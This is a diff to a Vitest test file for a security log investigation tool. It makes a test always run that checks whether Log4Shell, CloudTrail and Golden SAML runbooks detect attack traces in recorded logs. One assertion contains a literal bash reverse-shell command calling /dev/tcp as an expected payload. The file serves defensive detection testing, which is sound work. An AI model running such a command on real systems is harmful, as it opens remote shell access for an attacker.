@@ -2,11 +2,7 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import {
-  securityLogsMissing,
-  securityLogsSource,
-  withSharedLogs,
-} from './__fixtures__/log4shell-database.js';
+import { securityLogsSource } from './__fixtures__/log4shell-database.js';
 import { openDuckDbLogEngine } from './duckdb/open-duckdb-log-engine.js';
 import { defaultRunbooksDir, loadRunbooks, parseRunbook } from './load-runbooks.js';
 import { loadSecurityLogs } from './load-security-logs.js';
@@ -17,7 +13,6 @@ let dir: string;
 let engine: LogEngine;
 beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), 'investigator-runbooks-'));
-  if (securityLogsMissing !== undefined) return;
   const file = join(dir, 'logs.duckdb');
   await loadSecurityLogs({
     source: securityLogsSource,
@@ -49,41 +44,34 @@ describe('loadRunbooks', () => {
     }
   });
 
-  it.skipIf(securityLogsMissing !== undefined)(
-    withSharedLogs(
-      'runs the Log4Shell, CloudTrail and Golden SAML runbooks on the real logs and finds the attack',
-    ),
-    async () => {
-      const runbooks = new Map(
-        (await loadRunbooks(defaultRunbooksDir())).map((runbook) => [runbook.name, runbook]),
-      );
-      const shell = await engine.query(runbooks.get('service-account-commands-and-connections')?.sql ?? '', {
-        maxRows: 100,
-        maxBytes: 100_000,
-      });
-      expect(shell.rows.map((row) => row.decoded_payload)).toContain(
-        'bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n',
-      );
-      expect(
-        shell.rows.some((row) => row.process === 'bash' && String(row.detail).endsWith(':443/tcp')),
-      ).toBe(true);
+  it('runs the Log4Shell, CloudTrail and Golden SAML runbooks on the real logs and finds the attack', async () => {
+    const runbooks = new Map(
+      (await loadRunbooks(defaultRunbooksDir())).map((runbook) => [runbook.name, runbook]),
+    );
+    const shell = await engine.query(runbooks.get('service-account-commands-and-connections')?.sql ?? '', {
+      maxRows: 100,
+      maxBytes: 100_000,
+    });
+    expect(shell.rows.map((row) => row.decoded_payload)).toContain(
+      'bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n',
+    );
+    expect(shell.rows.some((row) => row.process === 'bash' && String(row.detail).endsWith(':443/tcp'))).toBe(
+      true,
+    );
 
-      const s3 = await engine.query(runbooks.get('s3-access-with-instance-role-credentials')?.sql ?? '');
-      expect(s3.rows.find((row) => row.event_name === 'GetObject')).toMatchObject({
-        instance_id: 'i-0317f6c6b66ae9c40',
-        object_key: 'ring.txt',
-        source_ip: '1.2.3.4',
-      });
+    const s3 = await engine.query(runbooks.get('s3-access-with-instance-role-credentials')?.sql ?? '');
+    expect(s3.rows.find((row) => row.event_name === 'GetObject')).toMatchObject({
+      instance_id: 'i-0317f6c6b66ae9c40',
+      object_key: 'ring.txt',
+      source_ip: '1.2.3.4',
+    });
 
-      const saml = await engine.query(runbooks.get('federation-and-mailbox-timeline')?.sql ?? '', {
-        maxRows: 100,
-        maxBytes: 100_000,
-      });
-      expect(saml.rows.map((row) => row.action)).toEqual(
-        expect.arrayContaining(['4662', 'MailItemsAccessed']),
-      );
-    },
-  );
+    const saml = await engine.query(runbooks.get('federation-and-mailbox-timeline')?.sql ?? '', {
+      maxRows: 100,
+      maxBytes: 100_000,
+    });
+    expect(saml.rows.map((row) => row.action)).toEqual(expect.arrayContaining(['4662', 'MailItemsAccessed']));
+  });
 
   it('names the file and line of a bad header', async () => {
     const bad = join(dir, 'bad');
